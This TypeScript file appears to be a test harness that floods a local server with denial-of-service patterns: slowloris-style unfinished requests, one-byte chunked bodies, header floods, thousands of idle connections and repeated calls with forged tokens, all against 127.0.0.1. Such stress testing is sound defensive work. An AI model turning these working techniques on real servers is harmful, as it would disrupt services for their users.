/**
 * The clients of one attack, as a process of their own: `node attacker.ts NAME PORT`. It goes on until it is
 * killed. Most clients have an address of their own, in 127.0.0.0/8.
 */
import { connect, type Socket } from 'node:net';
import process from 'node:process';
import { setTimeout as sleep } from 'node:timers/promises';
import { contactFormAddress } from '#contract/plain-form.ts';

const page = 'GET / HTTP/1.1\r\nHost: a\r\n\r\n';
const form = `POST ${contactFormAddress} HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\n`;
const chunkedForm = `${form}Transfer-Encoding: chunked\r\n\r\n`;
const tinyChunk = '1\r\na\r\n';
const wrongCall = `POST /api/emailMessage HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nX-Firebase-AppCheck: ${'e30.'.repeat(100)}\r\nContent-Length: 11\r\n\r\n{"data":{}}`;

const attacks = {
  none: () => Promise.resolve(),
  'pages at once, from one client': (port) =>
    keepOpen(245, () => open(port, oneClient).pause(), page.repeat(2500)),
  'pages at once, from 1,500 clients': (port) =>
    keepOpen(1500, (n) => open(port, addressOf(n)).pause(), page.repeat(200)),
  'forms in chunks of one byte': (port) =>
    keepOpen(50, (n) => open(port, addressOf(n)), chunkedForm + tinyChunk.repeat(2 ** 18)),
  'refused forms in chunks of one byte': (port) =>
    keepOpen(50, () => open(port, oneClient), chunkedForm + tinyChunk.repeat(2 ** 20)),
  'chunks that drip, on 900 connections': drip,
  'unfinished forms, 2,000': (port) =>
    keepOpen(
      2000,
      (n) => open(port, addressOf(n)),
      `${form}Content-Length: ${2 ** 18}\r\n\r\n${'x'.repeat(2 ** 18 - 1)}`,
    ),
  'headers without an end, 2,000': (port) =>
    keepOpen(2000, (n) => open(port, addressOf(n)), page.trimEnd() + `\r\nX: ${'x'.repeat(8000)}`),
  'idle connections, 9,000': (port) => keepOpen(9000, (n) => open(port, addressOf(n)), page),
  'answers that are not read, 1,000': (port) =>
    keepOpen(1000, (n) => open(port, addressOf(n)).pause(), page.repeat(4)),
  'calls with wrong tokens': async (port) => {
    for (const socket of await openAll(100, (n) => open(port, addressOf(n)))) {
      socket.on('data', () => socket.write(wrongCall));
      socket.write(wrongCall);
    }
  },
} as const satisfies Readonly<Record<string, (port: number) => Promise<unknown>>>;

export type AttackName = keyof typeof attacks;

export const attackNames = Object.keys(attacks) as AttackName[];

async function drip(port: number): Promise<void> {
  const start = (n: number) => {
    const socket = open(port, addressOf(n));
    socket.write(chunkedForm);
    return socket;
  };
  const sockets = await openAll(900, start);
  for (;;) {
    await sleep(50);
    for (const [n, socket] of sockets.entries()) {
      if (socket.closed) sockets[n] = start(n);
      else if (socket.writableLength < 100_000) socket.write(tinyChunk.repeat(100));
    }
  }
}

const oneClient = '127.9.9.9';

/** The address of client number `n`, in a subnet of its own. */
const addressOf = (n: number) => `127.${1 + (n % 250)}.${10 + Math.floor(n / 250)}.1`;

function open(port: number, localAddress: string): Socket {
  const socket = connect({ port, host: '127.0.0.1', localAddress });
  // The server closes what is too much.
  return socket.on('error', () => undefined).resume();
}

async function openAll(count: number, start: (n: number) => Socket): Promise<Socket[]> {
  const sockets: Socket[] = [];
  for (let n = 0; n < count; n++) {
    sockets.push(start(n));
    // The kernel's queue of new connections is short.
    if (n % 100 === 99) await sleep(10);
  }
  return sockets;
}

/** Keeps so many connections open, each of which sends the bytes once. A closed one is opened again. */
async function keepOpen(count: number, each: (n: number) => Socket, bytes: string) {
  const start = (n: number) => {
    const socket = each(n);
    socket.write(bytes);
    socket.once('close', () => void setTimeout(() => start(n), reopenTime));
    return socket;
  };
  return openAll(count, start);
}

/** In milliseconds. */
const reopenTime = 1000;

if (import.meta.main) {
  const [name = '', port = ''] = process.argv.slice(2);
  setInterval(() => undefined, 60_000);
  await Object.entries(attacks).find(([each]) => each === name)?.[1](Number(port));
}
